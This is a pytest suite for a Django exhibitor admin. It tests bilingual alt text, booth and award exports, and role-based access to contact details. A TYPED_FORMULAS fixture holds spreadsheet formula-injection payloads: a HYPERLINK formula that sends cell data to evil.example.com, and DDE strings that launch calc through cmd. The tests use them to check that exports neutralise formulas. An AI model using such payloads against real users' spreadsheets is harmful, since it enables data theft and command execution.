"""Booth and organisation admin: alt text in both languages, thumbnails, exports of booths, applications and awards."""

import csv
import io

import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse
from openpyxl import load_workbook

from exhibitors.models import Booth, BoothPhoto, Organisation
from tests.factories import BoothFactory, ForumFactory, OrganisationFactory, ThemeFactory
from tests.files import png


def test_logo_needs_alt_text_in_both_languages(db):
    organisation = OrganisationFactory.build(logo=png(), logo_alt_kk="Логотип", logo_alt_ru="")
    with pytest.raises(ValidationError) as error:
        organisation.clean()
    assert list(error.value.message_dict) == ["logo_alt_ru"]


def test_photo_needs_alt_text_in_both_languages(db):
    booth = BoothFactory()
    photo = BoothPhoto(booth=booth, image=png("a.png"), alt_kk="", alt_ru="")
    with pytest.raises(ValidationError) as error:
        photo.clean()
    assert sorted(error.value.message_dict) == ["alt_kk", "alt_ru"]


def test_admin_refuses_a_logo_without_alt_text_and_shows_a_thumbnail(client, editor, settings):
    client.force_login(editor)
    client.cookies["django_language"] = "kk"
    add = reverse("admin:exhibitors_organisation_add")
    data = {
        "name_kk": "«Жарық» ҚБ",
        "name_ru": "ОО «Свет»",
        "logo": png(),
        "logo_alt_kk": "Жарық логотипі",
    }
    response = client.post(add, data)
    assert response.context["adminform"].form.errors == {
        "logo_alt_ru": ["Суреттің мәтіндік баламасы қажет: Орыс тілі."]
    }
    assert not Organisation.objects.exists()

    data = {**data, "logo": png(), "logo_alt_ru": "Логотип «Свет»"}
    assert client.post(add, data).status_code == 302
    organisation = Organisation.objects.get()
    changelist = client.get(reverse("admin:exhibitors_organisation_changelist"))
    assert (
        f'<img src="{organisation.logo.url}" alt="Жарық логотипі" class="admin-thumbnail"'
        in changelist.text
    )


@pytest.fixture
def booths(db):
    forum = ForumFactory(title_kk="Форум 2025", title_ru="Форум 2025")
    theme = ThemeFactory(name_kk="Инклюзия", name_ru="Инклюзия")
    approved = BoothFactory(
        forum=forum,
        number=7,
        organisation=OrganisationFactory(
            name_kk="«Әлем» ҚБ", name_ru="ОО «Мир»", bin="123456789012"
        ),
        project_title_kk="Қолжетімді орта",
        project_title_ru="Доступная среда",
        needs_power=True,
    )
    approved.themes.add(theme)
    pending = BoothFactory(
        forum=forum, status=Booth.Status.SUBMITTED, project_title_kk="Жаңа өтінім"
    )
    return approved, pending


def _export(client, url, file_format, resource=None, **filters):
    # Format 0 is CSV, 1 is XLSX (the admin's `formats`); every column is selected.
    from awards.resources import AwardResource
    from exhibitors.resources import BoothResource

    resource = resource or (BoothResource if "booth" in url else AwardResource)
    data = {"format": file_format, "resource": 0}
    for field in resource._meta.fields:
        data[f"{resource.__name__.lower()}_{field}"] = "on"
    return client.post(
        reverse(url) + ("?" + "&".join(f"{k}={v}" for k, v in filters.items()) if filters else ""),
        data,
    )


def test_booth_export_csv_has_every_application_with_its_columns(client, moderator, booths):
    approved, pending = booths
    client.force_login(moderator)
    client.cookies["django_language"] = "ru"
    response = _export(client, "admin:exhibitors_booth_export", 0)
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][:6] == [
        "код заявки",
        "форум",
        "номер стенда",
        "статус",
        "организация (на казахском)",
        "организация (на русском)",
    ]
    by_code = {row[0]: row for row in rows[1:]}
    assert set(by_code) == {approved.reference_code, pending.reference_code}
    row = by_code[approved.reference_code]
    assert (
        row[1:10]
        == [
            "Форум 2025",
            "7",
            "Заявка одобрена",
            "«Әлем» ҚБ",
            "ОО «Мир»",
            "123456789012",
            "Қолжетімді орта",
            "Доступная среда",
            "Инклюзия",
        ][:9]
    )
    assert row[12] == "+77011234567"


def test_booth_export_xlsx_follows_the_change_list_filter(client, moderator, booths):
    _approved, pending = booths
    client.force_login(moderator)
    response = _export(client, "admin:exhibitors_booth_export", 1, status__exact="submitted")
    workbook = load_workbook(io.BytesIO(response.content))
    rows = list(workbook.active.iter_rows(values_only=True))
    assert len(rows) == 2
    assert rows[1][0] == pending.reference_code


def test_award_export_xlsx_content(client, editor, booths):
    from tests.factories import AwardFactory

    approved, _pending = booths
    AwardFactory(
        forum=approved.forum,
        organisation=approved.organisation,
        nomination_kk="Үздік жоба",
        nomination_ru="Лучший проект",
    )
    client.force_login(editor)
    client.cookies["django_language"] = "kk"
    response = _export(client, "admin:awards_award_export", 1)
    rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
    assert rows == [
        (
            "форум",
            "алушы (қазақша)",
            "алушы (орысша)",
            "БСН",
            "номинация (қазақша)",
            "номинация (орысша)",
            "реті",
        ),
        ("Форум 2025", "«Әлем» ҚБ", "ОО «Мир»", "123456789012", "Үздік жоба", "Лучший проект", "0"),
    ]


def test_editors_export_booths_without_the_contact_person(client, editor, booths):
    from exhibitors.resources import BoothResourceWithoutContacts

    client.force_login(editor)
    client.cookies["django_language"] = "ru"
    response = _export(
        client, "admin:exhibitors_booth_export", 0, resource=BoothResourceWithoutContacts
    )
    content = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content)))

    assert len(rows) == 3
    assert [heading for heading in rows[0] if "контакт" in heading] == []
    assert "aigul@example.kz" not in content
    assert "+77011234567" not in content
    assert "Айгүл Сәрсенова" not in content


def test_moderators_export_the_contact_person(client, moderator, booths):
    client.force_login(moderator)
    client.cookies["django_language"] = "ru"
    rows = list(
        csv.reader(
            io.StringIO(
                _export(client, "admin:exhibitors_booth_export", 0).content.decode("utf-8-sig")
            )
        )
    )
    assert rows[0][10:13] == [
        "контактное лицо",
        "контактный адрес электронной почты",
        "контактный телефон",
    ]
    assert rows[1][10:13] == ["Айгүл Сәрсенова", "aigul@example.kz", "+77011234567"]


@pytest.mark.parametrize(("role", "sees"), [("editor", False), ("moderator", True)])
def test_only_moderators_see_and_search_the_contact_person(client, request, booths, role, sees):
    approved, _pending = booths
    client.force_login(request.getfixturevalue(role))

    page = client.get(reverse("admin:exhibitors_booth_change", args=[approved.pk]))
    found = client.get(reverse("admin:exhibitors_booth_changelist"), {"q": "aigul@example.kz"})

    assert page.status_code == 200
    assert ("aigul@example.kz" in page.content.decode()) is sees
    assert found.context["cl"].result_count == (2 if sees else 0)


def test_moderators_cannot_export_awards(client, moderator, booths):
    client.force_login(moderator)
    assert client.get(reverse("admin:awards_award_export")).status_code == 403


def test_approving_and_rejecting_in_the_admin_show_in_the_history(client, moderator, booths):
    from django.contrib.admin.models import LogEntry

    _approved, pending = booths
    other = BoothFactory(forum=pending.forum, status=Booth.Status.SUBMITTED)
    client.force_login(moderator)
    client.cookies["django_language"] = "kk"
    changelist = reverse("admin:exhibitors_booth_changelist")
    client.post(changelist, {"action": "approve_selected", "_selected_action": [pending.pk]})
    client.post(
        changelist,
        {"action": "reject_selected", "_selected_action": [other.pk], "reason": "Орын жоқ."},
    )
    entries = {
        entry.object_id: (entry.user, entry.get_change_message())
        for entry in LogEntry.objects.all()
    }
    changed = "Мәртебесі, стенд нөмірі, қараған қызметкер және қаралған уақыты өзгертілді."
    assert entries == {str(pending.pk): (moderator, changed), str(other.pk): (moderator, changed)}


# What an applicant typed can hold a spreadsheet formula: the exports never run it.
TYPED_FORMULAS = {
    "name_kk": '=HYPERLINK("https://evil.example.com/?"&A1,"Ашу")',
    "name_ru": "@SUM(1+1)*cmd|' /C calc'!A0",
    "project_title_kk": "+cmd|' /C calc'!A0",
    "project_title_ru": "-2+3+cmd|' /C calc'!A0",
    "contact_name": "\t=1+1",
}


@pytest.fixture
def booth_with_formulas(db):
    organisation = OrganisationFactory(
        name_kk=TYPED_FORMULAS["name_kk"], name_ru=TYPED_FORMULAS["name_ru"], bin="123456789012"
    )
    return BoothFactory(
        organisation=organisation,
        status=Booth.Status.SUBMITTED,
        project_title_kk=TYPED_FORMULAS["project_title_kk"],
        project_title_ru=TYPED_FORMULAS["project_title_ru"],
        contact_name=TYPED_FORMULAS["contact_name"],
        contact_phone="+77011234567",
    )


def test_a_csv_export_marks_typed_formulas_as_text(client, moderator, booth_with_formulas):
    client.force_login(moderator)

    response = _export(client, "admin:exhibitors_booth_export", 0)

    [_headers, row] = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert row[4:9] == [
        "'" + TYPED_FORMULAS["name_kk"],
        "'" + TYPED_FORMULAS["name_ru"],
        "123456789012",
        "'" + TYPED_FORMULAS["project_title_kk"],
        "'" + TYPED_FORMULAS["project_title_ru"],
    ]
    assert row[10] == "'" + TYPED_FORMULAS["contact_name"]
    # A phone number is a number, not a formula: it stays as typed.
    assert row[12] == "+77011234567"


def test_an_xlsx_export_keeps_typed_formulas_as_plain_text(client, moderator, booth_with_formulas):
    client.force_login(moderator)

    response = _export(client, "admin:exhibitors_booth_export", 1)

    sheet = load_workbook(io.BytesIO(response.content)).active
    row = sheet[2]
    cells = {cell.column_letter: cell for cell in row}
    typed = [cells[column] for column in "EFHIK"]
    assert [cell.value for cell in typed] == [
        TYPED_FORMULAS[name]
        for name in ["name_kk", "name_ru", "project_title_kk", "project_title_ru", "contact_name"]
    ]
    assert {cell.data_type for cell in typed} == {"s"}
    assert all(cell.data_type != "f" for cell in row)
    # tablib's layout survives: bold headings, frozen under the first row.
    assert sheet["A1"].font.bold is True
    assert sheet.freeze_panes == "A2"


def test_award_exports_make_formulas_inert_too(client, editor, db):
    from tests.factories import AwardFactory

    AwardFactory(organisation=None, recipient_name_kk="=1+1", recipient_name_ru="@A1")
    client.force_login(editor)

    csv_export = _export(client, "admin:awards_award_export", 0)
    xlsx_export = _export(client, "admin:awards_award_export", 1)

    [_headers, row] = list(csv.reader(io.StringIO(csv_export.content.decode("utf-8-sig"))))
    assert row[1:3] == ["'=1+1", "'@A1"]
    sheet = load_workbook(io.BytesIO(xlsx_export.content)).active
    assert [(cell.value, cell.data_type) for cell in sheet[2][1:3]] == [("=1+1", "s"), ("@A1", "s")]
